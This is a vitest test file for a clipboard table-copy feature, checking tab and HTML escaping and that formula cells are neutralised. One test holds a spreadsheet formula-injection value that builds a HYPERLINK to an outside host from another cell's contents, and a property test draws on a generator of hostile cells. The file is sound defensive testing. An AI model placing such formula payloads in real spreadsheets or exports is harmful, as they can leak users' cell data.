import fc from 'fast-check'
import { expect, test } from 'vitest'
import { tableAsHtml, tableAsText } from '../../../renderer/app/api/copied-table.ts'
import { hostileCell, isLive } from '../../exchange/export/hostile-cells.ts'

test('a table is copied as lines with tabs and as a table with heads', () => {
  const rows = [
    ['Name', 'Phone'],
    ['Ana\n"Nan" Ruiz', '+1 505-555-0100'],
    ['<b>&</b>', '-5'],
  ]
  expect(tableAsText(rows)).toBe('Name\tPhone\r\nAna "Nan" Ruiz\t+1 505-555-0100\r\n<b>&</b>\t-5')
  expect(tableAsHtml(rows)).toBe(
    '<table><tr><th>Name</th><th>Phone</th></tr>' +
      '<tr><td>Ana &quot;Nan&quot; Ruiz</td><td>+1 505-555-0100</td></tr>' +
      '<tr><td>&lt;b&gt;&amp;&lt;/b&gt;</td><td>-5</td></tr></table>',
  )
})

test('a cell that would be a formula is none, in both forms', () => {
  const cell = '=HYPERLINK("https://example.org/?"&A1)'
  expect(tableAsText([['x'], [cell]])).toBe(`x\r\n'${cell}`)
  expect(tableAsHtml([['x'], [cell]])).toContain("<td>'=HYPERLINK(")
})

test('nothing that is copied is live for a spreadsheet, and no cell breaks into two', () => {
  const isNumber = (text: string) => /^[+-]?[\d\s().-]+$/u.test(text)
  fc.assert(
    fc.property(hostileCell, (text) => {
      const lines = tableAsText([['head'], [text]]).split('\r\n')
      const [, cell = ''] = lines
      return lines.length === 2 && !cell.includes('\t') && (isNumber(cell) || !isLive(cell))
    }),
    { numRuns: 2000 },
  )
})
